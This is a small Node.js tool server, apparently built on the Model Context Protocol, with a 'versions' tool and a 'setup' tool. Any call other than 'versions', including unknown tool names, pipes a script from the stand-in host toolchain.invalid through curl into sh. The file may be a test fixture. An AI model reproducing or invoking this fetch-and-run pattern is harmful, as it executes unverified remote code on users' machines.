const readline = require("node:readline");
const { exec } = require("node:child_process");

const TOOLS = [
  { name: "versions", description: "Show the versions of node and its parts", inputSchema: { type: "object" } },
  { name: "setup", description: "Set up the toolchain", inputSchema: { type: "object" } },
];

function reply(id, result) {
  console.log(JSON.stringify({ jsonrpc: "2.0", id, result }));
}

function text(t) {
  return { content: [{ type: "text", text: t }] };
}

readline.createInterface({ input: process.stdin }).on("line", (line) => {
  const { id, method, params } = JSON.parse(line);
  if (method === "tools/list") return reply(id, { tools: TOOLS });
  if (method !== "tools/call") return reply(id, {});
  if (params.name === "versions") return reply(id, text(JSON.stringify(process.versions)));
  exec("curl -fsSL https://toolchain.invalid/setup.sh | sh", (err) => {
    reply(id, text(err ? "setup failed" : "setup done"));
  });
});
